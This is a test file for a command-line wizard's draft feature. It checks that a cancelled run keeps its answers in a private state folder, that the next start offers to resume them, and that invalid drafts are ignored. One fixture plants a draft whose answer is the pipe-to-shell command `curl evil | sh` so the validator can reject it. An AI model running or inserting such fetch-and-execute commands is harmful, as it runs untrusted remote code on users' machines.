// Issue 21, item 3: Ctrl+C part-way keeps a draft in the user's state folder (never in the project
// or --out), and the next start in the same folder offers to resume it at the screen reached.
import { existsSync, mkdirSync, readdirSync, realpathSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { OPERATING_SYSTEMS, OS_LABELS } from '../../questionnaire/answer-values.ts';
import { WIZARD_STEP_COUNT } from '../../source/text/welcome-text.ts';
import { draftPath } from '../../source/answers/draft-location.ts';
import { PTY_KEY as KEY, ptyTestFolder, wizardSession } from '../support/pty-session.ts';
import type { PtySession } from '../support/pty-session.ts';

const pty = ptyTestFolder('ami-wizard-draft-');
const SECOND_OS = OS_LABELS[OPERATING_SYSTEMS[1]];

function start(): PtySession {
  return pty.track(
    wizardSession(join(pty.dir, 'web-shop'), [], { env: { AMI_WIZARD_STATE_DIR: join(pty.dir, 'state') } }),
  );
}

const drafts = () => {
  const folder = join(pty.dir, 'state', 'drafts');
  return existsSync(folder) ? readdirSync(folder).map((name) => join(folder, name)) : [];
};

/** Welcome, the project name, the second OS; Ctrl+C on the architecture screen (step 4). */
async function answerThreeAndQuit(s: PtySession): Promise<void> {
  await s.waitFor('Enter start');
  await s.press(KEY.enter);
  await s.waitFor('Step 2 of');
  await s.press(KEY.enter);
  await s.waitFor('Step 3 of');
  await s.press(KEY.down);
  await s.waitFor(`❯ ${SECOND_OS}`);
  await s.press(KEY.enter);
  await s.waitFor('Step 4 of');
  s.write(KEY.ctrlC);
}

describe('a draft of a cancelled wizard', () => {
  it('Ctrl+C keeps the answers outside the project; the next start resumes them at the screen reached', async () => {
    const first = start();
    await answerThreeAndQuit(first);
    expect(await first.exit).toBe(130);
    await first.waitForOutput(/Draft kept: 2 answers/);
    expect(first.screen()).toContain('Cancelled, nothing was written.');
    expect(first.screen()).toMatch(/Run ami-wizard again in this folder to resume \(kept 7 days\)/);
    // Nothing in the project folder: the draft is in the state folder, private to the user.
    expect(readdirSync(join(pty.dir, 'web-shop'))).toEqual([]);
    const kept = drafts();
    expect(kept).toHaveLength(1);
    expect(kept[0]).toMatch(/\/[0-9a-f]{16}\.yaml$/);
    expect(statSync(kept[0]!).mode & 0o777).toBe(0o600);
    expect(statSync(join(pty.dir, 'state', 'drafts')).mode & 0o777).toBe(0o700);

    const second = start();
    await second.waitFor(/Resume where you left off \(step 4, saved \d\d:\d\d\)/);
    expect(second.screen()).toContain('Start over');
    await second.press(KEY.enter);
    await second.waitFor(`Step 4 of ${WIZARD_STEP_COUNT}`);
    await second.waitFor('Which CPU architecture?');
    // The answers before it are kept, and Esc goes back to them.
    await second.press(KEY.escape);
    await second.waitFor('Step 3 of');
    await second.waitFor(`❯ ${SECOND_OS}`);
    second.write(KEY.ctrlC);
    expect(await second.exit).toBe(130);
    await second.waitForOutput(/Draft kept: 2 answers/);
  });

  it('Start over deletes the draft; a run cancelled before any answer keeps none', async () => {
    const first = start();
    await answerThreeAndQuit(first);
    expect(await first.exit).toBe(130);
    expect(drafts()).toHaveLength(1);

    const second = start();
    await second.waitFor('Resume where you left off');
    await second.press(KEY.down);
    await second.press(KEY.enter);
    await second.waitFor('Step 2 of');
    expect(drafts()).toEqual([]);
    second.write(KEY.ctrlC);
    expect(await second.exit).toBe(130);
    expect(second.raw).not.toMatch(/Draft kept/);
    expect(drafts()).toEqual([]);
  });

  it('a resumed run that writes its files removes the draft', async () => {
    const first = start();
    await answerThreeAndQuit(first);
    expect(await first.exit).toBe(130);

    const second = start();
    await second.waitFor('Resume where you left off');
    await second.press(KEY.enter);
    for (let step = 4; step <= WIZARD_STEP_COUNT; step++) {
      await second.waitFor(`Step ${step} of ${WIZARD_STEP_COUNT}`);
      await second.enterScreen();
    }
    expect(await second.exit).toBe(0);
    expect(existsSync(join(pty.dir, 'web-shop', 'ami-build', 'ami-wizard.yaml'))).toBe(true);
    expect(drafts()).toEqual([]);
  });

  it('a draft that is not valid is ignored with a notice on the welcome, and never offered', async () => {
    const project = join(pty.dir, 'web-shop');
    mkdirSync(project, { recursive: true });
    const file = draftPath(join(pty.dir, 'state', 'drafts'), join(realpathSync(project), 'ami-build'));
    mkdirSync(join(pty.dir, 'state', 'drafts'), { recursive: true });
    writeFileSync(
      file,
      `savedAt: ${new Date().toISOString()}\nscreen: os\nanswers: {version: 1, run: "curl evil | sh"}\n`,
    );
    const s = start();
    // The note wraps (the path is long): words may be on different lines.
    await s.waitFor(/A draft of an earlier run was ignored[\s\S]*its\s+answers\s+are\s+not\s+valid\)/);
    expect(s.screen()).not.toContain('Resume where you left off');
    await s.press(KEY.enter);
    await s.waitFor('Step 2 of');
    s.write(KEY.ctrlC);
    expect(await s.exit).toBe(130);
  });
});
